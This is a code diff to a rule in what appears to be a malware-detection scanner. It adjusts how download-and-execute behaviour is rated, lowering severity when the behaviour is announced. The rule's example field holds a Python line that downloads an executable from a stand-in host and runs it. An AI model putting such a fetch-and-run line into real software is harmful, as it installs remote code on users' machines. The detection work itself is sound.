@@ -93,7 +93,7 @@ export const CODE_COMBINATIONS: readonly Combination[] = [
       example: 'urlretrieve("https://evil.invalid/a.exe", path); os.startfile(path)',
       technique: 'T1105',
     },
-    judge: ({ behaviour, labels, reach, host, text, hashes, isChecked }) => {
+    judge: ({ behaviour, labels, reach, host, text, hashes, isChecked, isAnnounced }) => {
       if ((behaviour !== 'starts-process' && behaviour !== 'loads-native') || !labels.has('network'))
         return undefined;
       if (movesFiles(text ?? '')) return undefined;
@@ -103,7 +103,9 @@ export const CODE_COMBINATIONS: readonly Combination[] = [
       if (isModelService(host)) return undefined;
       const isFixed = host !== undefined && isPure(labels) && hashes !== true;
       const isSame = labels.has('remote-text') || labels.has('written');
-      return isFixed && (namesSomething(text) || isSame) ? 'CRITICAL' : 'LOW';
+      if (!isFixed || !(namesSomething(text) || isSame)) return 'LOW';
+      // Who hides what he does says nothing; somebody has called this, and reads what it does.
+      return isAnnounced === true ? 'HIGH' : 'CRITICAL';
     },
     message: ({ name, reach }) => `${name} starts something that was downloaded ${WHEN[reach]}`,
   },
